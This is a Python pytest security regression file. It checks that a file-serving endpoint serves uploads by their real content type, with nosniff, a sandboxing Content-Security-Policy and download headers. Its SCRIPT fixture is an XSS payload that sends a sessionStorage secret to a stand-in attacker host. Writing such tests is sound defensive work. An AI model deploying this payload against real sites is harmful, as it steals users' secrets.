"""Stored files are served as what their bytes are, never as a page on the API's origin.

Found from outside: `/files/...` answered `text/html` for a stored `evil.html` (a PNG followed by a
script, added with `visual-search add`) and `image/svg+xml` for an SVG, without nosniff or a CSP, on the
origin whose search page keeps the API secret in session storage."""

from __future__ import annotations

import pytest
import urllib3

from tests.fixtures import images

SCRIPT = b"<html><script>fetch('//evil.example/'+sessionStorage.getItem('secret'))</script></html>"


def fetch(services, server: str, key: str, data: bytes) -> urllib3.BaseHTTPResponse:
    services.store.put(key, data)
    try:
        return urllib3.PoolManager(retries=False).request("GET", services.store.urls(server)(key))
    finally:
        services.store.delete(key)


@pytest.mark.parametrize(
    ("key", "data", "content_type"),
    [
        ("served/evil.html", images.png(40, 30) + SCRIPT, "image/png"),  # decodes as a PNG: served as one
        ("served/photo.html", images.jpeg(40, 30), "image/jpeg"),
        ("served/page.jpg", SCRIPT, "application/octet-stream"),  # an image's name, a page's bytes
        ("served/drawing.svg", images.svg(), "application/octet-stream"),
        ("served/page.html", SCRIPT, "application/octet-stream"),
    ],
)
def test_a_stored_file_is_served_with_the_type_of_its_content_not_its_name(
    services, server, key, data, content_type
):
    response = fetch(services, server, key, data)
    assert response.status == 200
    assert response.headers["Content-Type"] == content_type
    assert response.data == data


@pytest.mark.parametrize("data", [images.jpeg(40, 30), images.svg(), SCRIPT])
def test_every_served_file_forbids_sniffing_and_runs_no_script(services, server, data):
    response = fetch(services, server, "served/file.html", data)
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    policy = response.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "sandbox" in policy


def test_a_file_that_is_not_an_image_is_a_download_and_an_image_is_shown_inline(services, server):
    download = fetch(services, server, "served/notes.html", SCRIPT)
    assert download.headers["Content-Disposition"] == "attachment; filename*=UTF-8''notes.html"
    shown = fetch(services, server, "served/été 1.jpg", images.jpeg(40, 30))
    assert shown.headers["Content-Disposition"] == "inline; filename*=UTF-8''%C3%A9t%C3%A9%201.jpg"
